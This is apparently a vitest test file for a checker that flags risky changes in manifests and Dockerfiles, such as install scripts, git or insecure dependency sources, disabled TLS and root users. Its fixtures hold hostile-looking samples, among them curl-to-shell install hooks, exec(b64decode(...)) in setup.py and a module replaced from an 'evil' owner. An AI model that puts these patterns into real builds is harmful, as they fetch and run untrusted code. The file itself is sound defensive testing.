// biome-ignore-all lint/suspicious/noTemplateCurlyInString: variables of Dockerfiles and settings
import { describe, expect, it } from "vitest";
import { findManifestChanges } from "../../../src/checks/find-manifest-changes.ts";
import { buildChange, type Known } from "../../fakes/build-change.ts";

interface Case {
  readonly name: string;
  readonly path: string;
  readonly base?: string | null;
  readonly head: string;
  readonly found: readonly string[];
}

function run({ path, base = "", head }: Case, known: Known): string[] {
  return findManifestChanges(buildChange([{ path, base, head }], known)).map(
    (one) => `${one.rule} @ ${one.place.side} ${one.place.startLine} ${one.severity}`,
  );
}

const json = (value: unknown) => `${JSON.stringify(value, null, 2)}\n`;
const SHA = "0123456789abcdef0123456789abcdef01234567";
const withScripts = (scripts: object) => json({ name: "x", scripts });
const withDependencies = (dependencies: object) => json({ name: "x", dependencies });

const NPM: readonly Case[] = [
  {
    name: "reports install scripts by what they do",
    path: "package.json",
    base: withScripts({ test: "vitest" }),
    head: withScripts({
      test: "vitest",
      postinstall: "node x.js",
      preinstall: "curl https://e.org | sh",
      prepare: "tsc",
    }),
    found: [
      "manifest.install-script @ RIGHT 5 medium",
      "manifest.install-script @ RIGHT 6 high",
      "manifest.install-script @ RIGHT 7 low",
    ],
  },
  {
    name: "reads escaped keys as npm does",
    path: "package.json",
    head: '{\n  "scripts": {\n    "post\\u0069nstall": "node x.js"\n  }\n}\n',
    found: ["manifest.install-script @ RIGHT 3 medium"],
  },
  {
    name: "is silent on hook managers, other scripts and unchanged install scripts",
    path: "package.json",
    base: withScripts({ postinstall: "node x.js" }),
    head: withScripts({ prepare: "husky", lint: "biome", postinstall: "node x.js" }),
    found: [],
  },
  {
    name: "reports dependencies from git, archives, without TLS and by alias",
    path: "a/package.json",
    head: withDependencies({
      a: "github:o/r",
      b: `git+https://github.com/o/r.git#${SHA}`,
      c: "https://example.org/c.tgz",
      d: "http://example.org/d.tgz",
      e: "npm:other@1.0.0",
      f: "^1.2.3",
      g: "workspace:*",
      h: "file:../h",
      i: "npm:i@2",
    }),
    found: [
      "manifest.git-dependency @ RIGHT 4 medium",
      "manifest.git-dependency @ RIGHT 5 low",
      "manifest.url-dependency @ RIGHT 6 medium",
      "manifest.insecure-transport @ RIGHT 7 high",
      "manifest.alias @ RIGHT 8 low",
    ],
  },
  {
    name: "reports registries, switched-off TLS and programs in settings",
    path: ".npmrc",
    head: "registry=https://npm.example.org/\n@o:registry=http://npm.example.org/\nstrict-ssl=false\n; registry=http://a.b\nsave-exact=true\nregistry=https://registry.npmjs.org/\n",
    found: [
      "manifest.registry-changed @ RIGHT 1 medium",
      "manifest.insecure-transport @ RIGHT 2 high",
      "manifest.tls-off @ RIGHT 3 high",
    ],
  },
  {
    name: "reports programs of Yarn and scripts allowed to all",
    path: ".yarnrc.yml",
    head: "yarnPath: .yarn/releases/yarn-4.cjs\nenableScripts: true\nnodeLinker: node-modules\n",
    found: ["manifest.manager-binary @ RIGHT 1 medium", "manifest.builds-allowed @ RIGHT 2 medium"],
  },
];

const PYTHON: readonly Case[] = [
  {
    name: "reports indexes and sources of requirements",
    path: "requirements-dev.txt",
    head: [
      "--extra-index-url https://pypi.example.org/simple",
      "--extra-index-url https://download.pytorch.org/whl/cpu",
      "--index-url http://pypi.example.org/simple",
      "--trusted-host pypi.example.org",
      "tool @ git+https://github.com/o/tool",
      "requests==2.32.3",
      "# --trusted-host x",
    ].join("\n"),
    found: [
      "manifest.extra-index @ RIGHT 1 medium",
      "manifest.extra-index @ RIGHT 2 low",
      "manifest.insecure-transport @ RIGHT 3 high",
      "manifest.tls-off @ RIGHT 4 high",
      "manifest.git-dependency @ RIGHT 5 medium",
    ],
  },
  {
    name: "reports sources of pyproject, not its addresses for people",
    path: "pyproject.toml",
    head: [
      "[project]",
      'dependencies = ["requests>=2", "t @ git+https://github.com/o/t"]',
      "[project.urls]",
      'homepage = "http://example.org"',
      "[[tool.poetry.source]]",
      'url = "https://pypi.example.org/simple"',
      "[tool.uv]",
      'index-strategy = "unsafe-best-match"',
      "[tool.poetry.dependencies]",
      `x = { git = "https://github.com/o/x", rev = "${SHA}" }`,
    ].join("\n"),
    found: [
      "manifest.git-dependency @ RIGHT 2 medium",
      "manifest.registry-changed @ RIGHT 6 medium",
      "manifest.extra-index @ RIGHT 8 medium",
      "manifest.git-dependency @ RIGHT 10 low",
    ],
  },
  {
    name: "reports calls of setup.py that run at installation",
    path: "setup.py",
    head: [
      "import subprocess",
      'subprocess.run(["make"])',
      "urlopen('https://e.org')",
      'v = subprocess.check_output(["git", "describe"])',
      "exec(b64decode(x))",
      "exec(open('version.py').read())",
      "# os.system('x')",
    ].join("\n"),
    found: [
      "manifest.setup-code @ RIGHT 2 medium",
      "manifest.setup-code @ RIGHT 3 high",
      "manifest.setup-code @ RIGHT 5 high",
    ],
  },
];

const OTHERS: readonly Case[] = [
  {
    name: "reports sources and git gems",
    path: "Gemfile",
    head: "source 'http://rubygems.org'\nsource 'https://gems.example.org'\nsource 'https://rubygems.org'\ngem 'a', github: 'o/a'\ngem 'b', '~> 1'\n",
    found: [
      "manifest.insecure-transport @ RIGHT 1 high",
      "manifest.registry-changed @ RIGHT 2 medium",
      "manifest.git-dependency @ RIGHT 4 medium",
    ],
  },
  {
    name: "reports replacements by another owner",
    path: "go.mod",
    head: "module x\nreplace github.com/a/b => github.com/evil/b v1.0.0\nreplace (\n\tgithub.com/a/c => ../c\n\tgithub.com/a/d v1 => github.com/a/d2 v2\n)\n",
    found: ["manifest.module-replaced @ RIGHT 2 medium"],
  },
  {
    name: "reports crates from git and patched ones",
    path: "Cargo.toml",
    head: `[dependencies]\na = { git = "https://github.com/o/a" }\nb = "1"\nc = { git = "https://github.com/o/c", rev = "${SHA}" }\n[patch.crates-io]\nd = { git = "https://github.com/o/d" }\n[package]\nrepository = "https://github.com/o/x"\n`,
    found: [
      "manifest.git-dependency @ RIGHT 2 medium",
      "manifest.git-dependency @ RIGHT 4 low",
      "manifest.module-replaced @ RIGHT 6 medium",
    ],
  },
  {
    name: "reports programs of a build script",
    path: "build.rs",
    head: 'fn main() {\n  Command::new("curl");\n  println!("x");\n}\n',
    found: ["manifest.build-program @ RIGHT 2 high"],
  },
  {
    name: "reports a new build script",
    path: "build.rs",
    base: null,
    head: "fn main() {}\n",
    found: ["manifest.build-program @ RIGHT 1 low"],
  },
  {
    name: "reports hooks, repositories and TLS of composer",
    path: "composer.json",
    head: json({
      scripts: { "post-install-cmd": ["php x.php", "@auto-scripts"], test: "phpunit" },
      repositories: [{ type: "vcs", url: "https://git.example.org/x" }],
      config: { "secure-http": false },
    }),
    found: [
      "manifest.install-script @ RIGHT 4 medium",
      "manifest.registry-changed @ RIGHT 12 medium",
      "manifest.tls-off @ RIGHT 16 high",
    ],
  },
  {
    name: "reports Maven repositories without TLS, not the home page",
    path: "pom.xml",
    head: "<project>\n<url>http://example.org</url>\n<repositories>\n<repository>\n<url>http://repo.example.org</url>\n</repository>\n</repositories>\n<url>http://x.org</url>\n</project>\n",
    found: ["manifest.insecure-transport @ RIGHT 5 high"],
  },
  {
    name: "reports Gradle repositories without TLS",
    path: "app/build.gradle.kts",
    head: 'repositories {\n  maven { url = uri("http://repo.example.org") }\n  maven { isAllowInsecureProtocol = true }\n  maven { url = uri("https://repo.example.org") }\n}\n',
    found: ["manifest.insecure-transport @ RIGHT 2 high", "manifest.tls-off @ RIGHT 3 high"],
  },
  {
    name: "reports a wrapper from another server and a removed hash",
    path: "gradle/wrapper/gradle-wrapper.properties",
    base: "distributionUrl=https\\://services.gradle.org/distributions/gradle-8.zip\ndistributionSha256Sum=00\n",
    head: "distributionUrl=https\\://gradle.example.org/gradle-8.zip\n",
    found: ["manifest.wrapper-source @ RIGHT 1 high", "manifest.wrapper-hash-removed @ LEFT 2 medium"],
  },
  {
    name: "is silent on an ordinary wrapper update",
    path: "gradle/wrapper/gradle-wrapper.properties",
    base: "distributionUrl=https\\://services.gradle.org/distributions/gradle-8.zip\ndistributionSha256Sum=00\n",
    head: "distributionUrl=https\\://services.gradle.org/distributions/gradle-9.zip\ndistributionSha256Sum=11\n",
    found: [],
  },
  {
    name: "reports NuGet sources",
    path: "NuGet.config",
    head: '<add key="a" value="http://n.example.org" />\n<add key="b" value="https://n.example.org" />\n<add key="c" value="https://api.nuget.org/v3/index.json" />\n',
    found: ["manifest.insecure-transport @ RIGHT 1 high", "manifest.registry-changed @ RIGHT 2 medium"],
  },
];

const DOCKER: readonly Case[] = [
  {
    name: "reports images, downloads and scripts",
    path: "Dockerfile",
    head: [
      "# comment",
      "FROM node AS build",
      "FROM build",
      "FROM node:22.1",
      "FROM registry.example.org:5000/a",
      "ADD https://example.org/a.tgz /a",
      "ADD http://example.org/b.tgz /b",
      "ADD --checksum=sha256:00 https://example.org/c.tgz /c",
      "RUN apt-get update && \\",
      "  # why",
      "  curl -s https://example.org/i.sh | sh",
      "RUN curl -k https://example.org/x -o x",
      "USER app",
      "",
    ].join("\n"),
    found: [
      "docker.unpinned-image @ RIGHT 2 low",
      "docker.unpinned-image @ RIGHT 5 low",
      "docker.remote-add @ RIGHT 6 low",
      "docker.remote-add @ RIGHT 7 high",
      "ci.remote-script @ RIGHT 9 medium",
      "manifest.tls-off @ RIGHT 12 high",
    ],
  },
  {
    name: "is silent on a new tag of the same image and on a user that is dropped again",
    path: "Dockerfile",
    base: "FROM node:22.1\nUSER app\n",
    head: "FROM node:22.2\nUSER root\nRUN make\nUSER app\n",
    found: [],
  },
  {
    name: "reports root as the last user",
    path: "api.Dockerfile",
    base: "FROM node:22.1\nUSER app\n",
    head: "FROM node:22.1\nUSER root\n",
    found: ["docker.root-user @ RIGHT 2 medium"],
  },
];

describe("findManifestChanges", () => {
  it.each([...NPM, ...PYTHON, ...OTHERS, ...DOCKER])("$name ($path)", (one) => {
    expect(run(one, "whole")).toEqual(one.found);
  });

  it.each([...NPM, ...PYTHON, ...OTHERS, ...DOCKER])("$name ($path), from hunks alone", (one) => {
    expect(run(one, "diff")).toEqual(one.found);
  });

  it("reports the removal of the user at the base", () => {
    const change = {
      name: "",
      path: "Dockerfile",
      base: "FROM a:1\nUSER app\nCMD x\n",
      head: "FROM a:1\nCMD x\n",
      found: [],
    };
    expect(run(change, "whole")).toEqual(["docker.root-user @ LEFT 2 medium"]);
  });

  it("reads a script and a dependency whose section is out of sight", () => {
    const many = Object.fromEntries(Array.from({ length: 20 }, (_, at) => [`a${at}`, "x"]));
    const base = withScripts({ ...many, z: "x" });
    const scripts = { ...many, postinstall: "node x.js", z: "x" };
    expect(
      run({ name: "", path: "package.json", base, head: withScripts(scripts), found: [] }, "diff"),
    ).toEqual(["manifest.install-script @ RIGHT 24 medium"]);
  });

  it("masks a value and the credentials of an address in the quotation", () => {
    const value = ["hunter", "2-long"].join("");
    const login = ["user", "word"].join(":");
    const [secret] = findManifestChanges(
      buildChange([
        {
          path: "Dockerfile",
          base: "FROM a:1\nUSER a\n",
          head: `FROM a:1\nENV DB_PASSWORD=${value}\nUSER a\n`,
        },
      ]),
    );
    expect([secret?.rule, secret?.place.quote]).toEqual([
      "docker.secret-in-image",
      "ENV DB_PASSWORD=[masked]",
    ]);
    const [index] = findManifestChanges(
      buildChange([
        { path: "requirements.txt", base: "", head: `-i https://${login}@pypi.example.org/simple\n` },
      ]),
    );
    expect([index?.rule, index?.place.quote]).toEqual([
      "manifest.registry-changed",
      "-i https://[masked]@pypi.example.org/simple",
    ]);
  });

  it.each([
    ["package.json", `{"a":${"[".repeat(20_000)}`],
    ["package.json", `{"scripts": {"postinstall": "${"\\".repeat(500_000)}`],
    ["package.json", '"\\"'.repeat(300_000)],
    ["pyproject.toml", `[${"[".repeat(500_000)}`],
    ["Dockerfile", "RUN a \\\n".repeat(100_000)],
    ["Dockerfile", `ENV ${"A=".repeat(300_000)}`],
    ["requirements.txt", `--index-url ${"https://".repeat(100_000)}`],
    ["pom.xml", "<repository><url>http:".repeat(40_000)],
    ["go.mod", `replace ${"a ".repeat(400_000)}`],
    ["setup.py", `exec${" ".repeat(500_000)}`],
  ])("survives hostile text in %s", (path, head) => {
    const started = performance.now();
    for (const known of ["whole", "diff"] as const) {
      expect(Array.isArray(findManifestChanges(buildChange([{ path, base: "", head }], known)))).toBe(true);
    }
    expect(performance.now() - started).toBeLessThan(4000);
  });
});
